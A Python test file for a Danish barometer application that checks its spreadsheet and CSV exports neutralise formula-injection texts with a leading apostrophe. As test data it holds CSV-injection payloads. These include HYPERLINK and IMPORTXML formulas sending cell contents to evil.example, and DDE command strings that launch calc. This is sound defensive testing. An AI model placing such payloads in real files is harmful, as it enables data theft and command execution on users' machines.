"""Formula text through every export: no spreadsheet runs what a user typed.

Texts beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are written
with a leading apostrophe; XLSX files never hold a formula cell; numbers stay numbers;
an exported file imported again gives back the texts as they were typed.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from barometer import catalogue_data
from barometer.catalogue_sheet import export_xlsx
from barometer.editions.open_data import COLUMNS, CSV_NAME
from barometer.editions.workbook import number_format
from barometer.measurement_import import IndicatorSpec
from barometer.measurement_sheet import TemplateRow, parse_file, template_csv, template_xlsx
from barometer.models import CatalogueVersion
from barometer.period import Period
from barometer.queries import load_version_tree, version_snapshot
from barometer.services import catalogue_import, catalogue_nodes, catalogue_versions
from barometer.services import editions as edition_svc
from tests.barometer.factories import (
    NOW,
    administration,
    goal,
    indicator,
    indicator_data,
    make_draft_with_content,
)
from tests.barometer.reading_factories import add_values, make_period

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_draft() -> CatalogueVersion:
    """A draft whose goal, indicator and criterion texts a spreadsheet would run."""
    administration("BUF")
    draft = make_draft_with_content(areas=1, goals_per_area=1, indicators_per_goal=1)
    target = goal(draft, "A1-M1")
    catalogue_nodes.update_goal(
        target, catalogue_data.GoalData("A1-M1", FORMULA, "@SUM(1+1)*cmd"), actor=None, now=NOW
    )
    hostile = indicator_data(
        "A1-M1-X",
        name_da="-2+3+cmd|' /C calc'!A0",
        name_en="+45 33 66 33 66",
        definition="=1+1",
        data_source="@Danmarks Statistik",
        direction=-1,
        baseline_value=Decimal("-4.5"),
        unit="count",
        decimals=1,
        notes='=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    )
    added = catalogue_nodes.add_indicator(target, hostile, actor=None, now=NOW)
    catalogue_nodes.add_criterion(
        added,
        catalogue_data.CriterionData(
            "=2*3", Decimal("-2.0"), "2010-H2", "-BIU 1", date(2006, 1, 2)
        ),
        actor=None,
        now=NOW,
    )
    return draft


def _snapshot(version: CatalogueVersion) -> dict[str, Any]:
    return version_snapshot(load_version_tree(version.id))


def _texts(values: list[Any]) -> list[str]:
    return [v for v in values if isinstance(v, str) and v]


def test_the_catalogue_xlsx_holds_no_formula_and_neutralises_every_hostile_text(db: Any) -> None:
    data = export_xlsx(_snapshot(_hostile_draft()), "da", "Version 1")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = _texts([c.value for c in cells])
    assert not [t for t in texts if t.startswith(STARTS)]
    for text in (FORMULA, "-2+3+cmd|' /C calc'!A0", "+45 33 66 33 66", "@Danmarks Statistik"):
        assert "'" + text in texts
    numbers = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, int | float)]
    assert -4.5 in numbers and -2 in numbers  # a negative number is a number, not text


def test_the_exported_catalogue_imported_again_gives_back_the_texts_as_typed(db: Any) -> None:
    draft = _hostile_draft()
    before = _snapshot(draft)
    data = export_xlsx(before, "da", "Version 1")
    catalogue_import.import_file(draft, "oversigt.xlsx", data, actor=None, now=NOW)
    db.session.expire_all()
    after = _snapshot(draft)
    assert after["focus_areas"] == before["focus_areas"]
    assert indicator(draft, "A1-M1-X").name_da == "-2+3+cmd|' /C calc'!A0"
    assert goal(draft, "A1-M1").text_da == FORMULA


SPEC = IndicatorSpec("BES-01", "=cmd|' /C calc'!A0", "@SUM(A1)", "percent", 1, 1, "BIF")
P = Period(2007, 1)


def test_the_measurement_templates_neutralise_indicator_names() -> None:
    rows = [TemplateRow(SPEC, Decimal("-1.5"), None)]
    text = template_csv(rows, P, "da").decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert lines[1][2] == "'=cmd|' /C calc'!A0" and lines[1][4] == "-1,5"
    sheet = load_workbook(io.BytesIO(template_xlsx(rows, P, "en"))).active
    assert sheet["C2"].value == "'@SUM(A1)" and sheet["C2"].data_type == "s"
    assert sheet["E2"].value == -1.5
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_filled_in_template_with_a_hostile_note_imports_as_typed() -> None:
    rows = [TemplateRow(SPEC, None, Decimal("47.0"))]
    header, line = template_csv(rows, P, "da").decode("utf-8-sig").splitlines()
    cells = line.split(";")
    cells[7] = "'=2+2"  # the note column, written the way an export writes it
    data = "\r\n".join([header, ";".join(cells)]).encode("utf-8")
    (entry,) = parse_file("t.csv", data, P).entries
    assert (entry.value, entry.note) == (Decimal("47.0"), "=2+2")


def test_the_open_data_csv_neutralises_names_and_notes_but_not_numbers(db: Any) -> None:
    draft = _hostile_draft()
    catalogue_versions.approve_version(
        draft, decision_text="BIU", decision_date=date(2006, 12, 14), actor=None, now=NOW
    )
    period = make_period("2007-H1")
    add_values(period, {"A1-M1-I1": Decimal("46.4")})
    add_values(period, {"A1-M1-X": None}, note="@skønnet; se note")
    edition = edition_svc.create_draft(edition_svc.EditionData("2007-H1", 1), actor=None, now=NOW)
    edition_svc.publish(edition, actor=None, now=NOW, render_documents=False, acknowledged=True)
    db.session.commit()  # the open-data files are stored by a job after the commit
    stored = edition_svc.stored_file(edition.id, CSV_NAME)
    assert stored is not None
    reader = csv.reader(io.StringIO(stored.content.decode("utf-8-sig")), delimiter=";")
    header, *rows = list(reader)
    kinds = {name: kind for name, kind, _ in COLUMNS}
    hostile = next(dict(zip(header, row, strict=True)) for row in rows if "A1-M1-X" in row)
    assert hostile["indicator_name_da"] == "'-2+3+cmd|' /C calc'!A0"
    assert hostile["indicator_name_en"] == "'+45 33 66 33 66"
    assert hostile["note"] == "'@skønnet; se note"
    assert hostile["direction"] == "-1"  # an integer column: a number, not text
    for row in rows:
        for name, value in zip(header, row, strict=True):
            if kinds[name] == "string":
                assert not value.startswith(STARTS), (name, value)


def test_the_edition_workbook_keeps_numbers_as_numbers_and_texts_inert(
    client: Any, db: Any
) -> None:
    draft = _hostile_draft()
    catalogue_versions.approve_version(
        draft, decision_text="BIU", decision_date=date(2006, 12, 14), actor=None, now=NOW
    )
    period = make_period("2007-H1")
    add_values(period, {"A1-M1-I1": Decimal("1485.5")})
    add_values(period, {"A1-M1-X": None}, note="@skønnet; se note")
    edition = edition_svc.create_draft(edition_svc.EditionData("2007-H1", 1), actor=None, now=NOW)
    edition_svc.publish(edition, actor=None, now=NOW, render_documents=False, acknowledged=True)
    db.session.commit()

    answer = client.get(f"/barometer/editions/{edition.id}/data.xlsx")
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert (
        f"integrationsbarometer-udgave-{edition.id}-da.xlsx"
        in answer.headers["Content-Disposition"]
    )
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames == ["Værdier", "Indikatorer"]
    values = book["Værdier"]
    assert values.freeze_panes == "A2" and values.auto_filter.ref
    header = [c.value for c in values[1]]
    assert header[:6] == ["Indsatsområde", "Mål", "Indikatorkode", "Indikator", "Periode", "Værdi"]
    assert all(c.font.bold for c in values[1])
    rows = {row[2].value: row for row in values.iter_rows(min_row=2)}
    plain, hostile = rows["A1-M1-I1"], rows["A1-M1-X"]
    # Numbers are numbers, shown with the indicator's decimals.
    assert isinstance(plain[5].value, int | float) and plain[5].value == 1485.5
    assert plain[5].number_format == number_format(int(plain_decimals(db)))
    assert hostile[5].value is None  # missing: an empty cell, not a text
    # Texts a spreadsheet would run are text, with an apostrophe in front.
    assert hostile[3].value == "'-2+3+cmd|' /C calc'!A0"
    assert hostile[7].value == "'@skønnet; se note"
    for sheet in book.worksheets:
        for line in sheet.iter_rows(min_row=2):
            for cell in line:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not cell.value.startswith(STARTS)
    indicators = {row[0].value: row for row in book["Indikatorer"].iter_rows(min_row=2)}
    assert indicators["A1-M1-X"][8].value == "'=1+1"  # the definition
    assert indicators["A1-M1-X"][6].value == -4.5  # the baseline, a number

    english = load_workbook(
        io.BytesIO(client.get(f"/barometer/editions/{edition.id}/data.xlsx?lang=en").data)
    )
    assert english.sheetnames == ["Values", "Indicators"]
    assert [c.value for c in english["Values"][1]][5] == "Value"


def plain_decimals(db: Any) -> int:
    from sqlalchemy import select

    from barometer.models import Indicator

    found = db.session.scalars(select(Indicator.decimals).where(Indicator.code == "A1-M1-I1"))
    return int(next(iter(found)))
